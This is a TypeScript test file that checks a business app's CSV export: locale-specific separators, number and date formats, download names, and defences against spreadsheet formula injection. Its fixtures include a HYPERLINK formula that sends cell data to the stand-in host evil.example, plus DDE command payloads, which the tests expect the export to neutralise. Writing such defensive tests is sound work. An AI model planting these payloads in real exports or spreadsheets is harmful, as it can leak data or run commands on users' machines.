import { RouterContextProvider } from 'react-router'
import { beforeAll, describe, expect, it } from 'vitest'
import { loader } from '../../app/routes/resources/export.ts'
import { loadMessages } from '../../app/lib/i18n.ts'
import { serverContext } from '../../app/server-context.ts'
import { csvSeparator, toCsv } from '../../bff/lib/csv.ts'
import { SEED_QUOTE_BRANCH } from '../../seeds/field-service.ts'
import { DEMO_ADMIN, DEMO_TIME_ZONE } from '../../seeds/tenancy.ts'
import { dateIn } from '../../domain/dates.ts'
import { callAs, testBff, type TestBff } from '../shared/bff.ts'

/**
 * A CSV file read as LibreOffice opens it for a pt-BR user (or an en-US one): UTF-8 with a BOM,
 * fields split on `separator`, quoted with '"' (RFC 4180, strictly: a quote inside a field is
 * doubled, a line ends with CRLF). Anything else in the file fails the test.
 */
function readSheet(file: string, separator: ';' | ','): string[][] {
  expect(file.startsWith('\uFEFF')).toBe(true)
  const text = file.slice(1)
  const rows: string[][] = []
  let row: string[] = []
  let at = 0
  while (at < text.length) {
    let value = ''
    if (text[at] === '"') {
      at++
      for (;;) {
        const quote = text.indexOf('"', at)
        if (quote < 0) throw new Error(`an unclosed quote at ${at}`)
        value += text.slice(at, quote)
        at = quote + 1
        if (text[at] !== '"') break
        value += '"'
        at++
      }
    } else {
      const end = text.slice(at).search(new RegExp(`[${separator}\\r"]`))
      value = text.slice(at, at + end)
      at += end
      if (text[at] === '"') throw new Error(`a quote inside an unquoted field at ${at}`)
    }
    row.push(value)
    if (text[at] === separator) at++
    else if (text.startsWith('\r\n', at)) {
      rows.push(row)
      row = []
      at += 2
    } else throw new Error(`neither a separator nor a line end at ${at}`)
  }
  return rows
}

/** The page's Export CSV as a signed-in user's browser downloads it: the route's loader, the real BFF behind it. */
async function exportList(bff: TestBff, token: string, culture: 'en' | 'pt', module: string, query = '', filial = 1) {
  return (await exportFile(bff, token, culture, module, query, filial)).text
}

/** The same download with the name the browser saves it under. */
async function exportFile(bff: TestBff, token: string, culture: 'en' | 'pt', module: string, query = '', filial = 1) {
  const context = new RouterContextProvider()
  context.set(serverContext, {
    api: async (path, init) => bff.api.request(path, init),
    production: false,
    csrfToken: '',
    formKey: '',
    nonce: '',
    form: null,
    defaultLayout: 'classy',
    signUpOpen: true,
  })
  const request = new Request(`http://localhost/resources/export/${module}?${query}`, {
    headers: { cookie: `token=${token}; culture=${culture}; currentEmpresa=1; currentFilial=${filial}` },
  })
  const res = await loader({ request, context, params: { module } } as unknown as Parameters<typeof loader>[0])
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8')
  // as the bytes are saved: a BOM first (Response.text() would drop it)
  return {
    name: res.headers.get('content-disposition'),
    text: new TextDecoder('utf-8', { ignoreBOM: true }).decode(await res.arrayBuffer()),
  }
}

describe("the data table's Export CSV opens in the user's spreadsheet", () => {
  let bff: TestBff
  let token: string
  const trap = '=HYPERLINK("http://evil.example/?d="&A1;"Clique")'
  beforeAll(async () => {
    await Promise.all((['en', 'pt'] as const).map((locale) => loadMessages(locale)))
    bff = await testBff()
    token = await bff.signIn()
    const admin = await callAs(bff, DEMO_ADMIN)
    const client = await admin('/cd_cliente', {
      method: 'POST',
      json: {
        kind: 'business',
        name: 'Padaria Pão; Café & Cia',
        contacts: [{ kind: 'phone', label: 'celular', value: '+55 11 98888-7777' }],
        addresses: [
          { label: 'Loja', street: 'Rua Augusta, 100', city: 'São Paulo', region: 'SP', postalCode: '01305-000' },
        ],
      },
    })
    expect(client.status).toBe(200)
    for (const [code, name, unitPrice] of [
      ['XLS-PRICE', 'Limpeza de split, 12.000 BTU', 123456],
      ['XLS-TRAP', trap, 990],
      ['XLS-AT', "@SUM(1+1)*cmd|' /C calc'!A0", 1000],
      ['XLS-DDE', "+cmd|' /C calc'!A0", 1000],
      ['XLS-MINUS', "-2+3+cmd|' /C calc'!A0", 1000],
    ] as const) {
      const job = await admin('/cd_job', {
        method: 'POST',
        json: { code, name, unit: 'unit', unitPrice, taxPercent: 0, durationMinutes: 90 },
      })
      expect(job.status, code).toBe(200)
    }
  })

  it('is named after the page as the user reads it and the day where he works, not the module', async () => {
    const today = dateIn(DEMO_TIME_ZONE, Date.now())
    expect((await exportFile(bff, token, 'pt', 'cd_job')).name).toBe(`attachment; filename="servicos-${today}.csv"`)
    expect((await exportFile(bff, token, 'pt', 'cd_ordem')).name).toBe(
      `attachment; filename="ordens-de-servico-${today}.csv"`,
    )
    expect((await exportFile(bff, token, 'en', 'cd_invoice')).name).toBe(`attachment; filename="invoices-${today}.csv"`)
  })

  it('in Portuguese: fields apart with ";", every row in the columns of the table, amounts as 1.234,56', async () => {
    const sheet = readSheet(await exportList(bff, token, 'pt', 'cd_job', 'search=XLS&sort=code&order=asc'), ';')
    expect(sheet).toEqual([
      ['Código', 'Nome', 'Unidade', 'Preço unitário (BRL)', 'Minutos estimados', 'Situação'],
      ['XLS-AT', "'@SUM(1+1)*cmd|' /C calc'!A0", 'Unidade', '10,00', '90', 'Ativo'],
      ['XLS-DDE', "'+cmd|' /C calc'!A0", 'Unidade', '10,00', '90', 'Ativo'],
      ['XLS-MINUS', "'-2+3+cmd|' /C calc'!A0", 'Unidade', '10,00', '90', 'Ativo'],
      ['XLS-PRICE', 'Limpeza de split, 12.000 BTU', 'Unidade', '1.234,56', '90', 'Ativo'],
      ['XLS-TRAP', `'${trap}`, 'Unidade', '9,90', '90', 'Ativo'],
    ])
  })

  it('in Portuguese: a phone reads as the client typed it, without an apostrophe, and a ";" in a name stays in its cell', async () => {
    const sheet = readSheet(await exportList(bff, token, 'pt', 'cd_cliente', 'search=Padaria'), ';')
    const [heading, ...rows] = sheet
    expect(heading).toEqual(['Nome', 'Tipo', 'CPF / CNPJ', 'Telefone', 'Cidade', 'Situação'])
    expect(rows).toEqual([
      ['Padaria Pão; Café & Cia', 'Pessoa jurídica', '', '+55 11 98888-7777', 'São Paulo', 'Ativo'],
    ])
  })

  it('in Portuguese: dates as 26/11/2026, every quote of the list on its own row', async () => {
    const admin = await callAs(bff, DEMO_ADMIN, { 'x-empresa': '1', 'x-filial': String(SEED_QUOTE_BRANCH) })
    const listed = await admin<{ items: Array<{ number: string; validUntil: string; total: number }> }>(
      '/cd_cotacao?size=100&sort=number&order=asc',
    )
    const sheet = readSheet(
      await exportList(bff, token, 'pt', 'cd_cotacao', 'sort=number&order=asc', SEED_QUOTE_BRANCH),
      ';',
    )
    expect(sheet[0]).toEqual(['Número', 'Cliente', 'Situação', 'Válido até', 'Total (BRL)'])
    expect(sheet.slice(1).every((row) => row.length === 5)).toBe(true)
    const quotes = listed.body.Dados.items
    expect(quotes.length).toBeGreaterThan(0)
    expect(sheet).toHaveLength(quotes.length + 1)
    for (const [i, quote] of quotes.entries()) {
      const [year, month, day] = quote.validUntil.split('-')
      const [units, cents] = (quote.total / 100).toFixed(2).split('.')
      expect(sheet[i + 1][0]).toBe(quote.number)
      expect(sheet[i + 1][3]).toBe(`${day}/${month}/${year}`)
      expect(sheet[i + 1][4]).toBe(`${units.replace(/\B(?=(\d{3})+$)/g, '.')},${cents}`)
    }
  })

  it('in English: fields apart with ",", amounts as 1,234.56 and dates as 11/26/2026', async () => {
    const jobs = readSheet(await exportList(bff, token, 'en', 'cd_job', 'search=XLS-PRICE'), ',')
    expect(jobs).toEqual([
      ['Code', 'Name', 'Unit', 'Unit price (BRL)', 'Estimated minutes', 'Status'],
      ['XLS-PRICE', 'Limpeza de split, 12.000 BTU', 'Unit', '1,234.56', '90', 'Active'],
    ])
    const quotes = readSheet(
      await exportList(bff, token, 'en', 'cd_cotacao', 'sort=number&order=asc', SEED_QUOTE_BRANCH),
      ',',
    )
    expect(quotes[1][3]).toMatch(/^\d\d\/\d\d\/\d{4}$/)
    const clients = readSheet(await exportList(bff, token, 'en', 'cd_cliente', 'search=Padaria'), ',')
    expect(clients[1][3]).toBe('+55 11 98888-7777')
  })
})

describe("the export's separator follows how the culture writes decimals", () => {
  it('";" where the decimal separator is a comma (pt-BR, and any such culture), "," where it is a point (en-US, es-MX)', () => {
    expect(['pt-BR', 'de-DE', 'en-US', 'es-MX'].map(csvSeparator)).toEqual([';', ';', ',', ','])
  })
})

describe('the CSV writer keeps spreadsheet formulas from running', () => {
  const one = (value: string) => toCsv([value], [['v', (v: string) => v]], ';').split('\r\n')[1]
  it('leaves a phone, a signed number and a dash alone', () => {
    for (const data of ['+55 11 98888-7777', '+1 (555) 010-9999', '-1.234,56', '-42', '-', '— nota'])
      expect(one(data)).toBe(data)
  })
  it('defuses text a spreadsheet would run: =, @, a tab, and + or - before a formula', () => {
    expect(one('=1+1')).toBe("'=1+1")
    expect(one('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)")
    expect(one('\t=1+1')).toBe("'\t=1+1")
    expect(one("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0")
    expect(one('-2+3+cmd')).toBe("'-2+3+cmd")
    expect(one('+A1')).toBe("'+A1")
  })
})
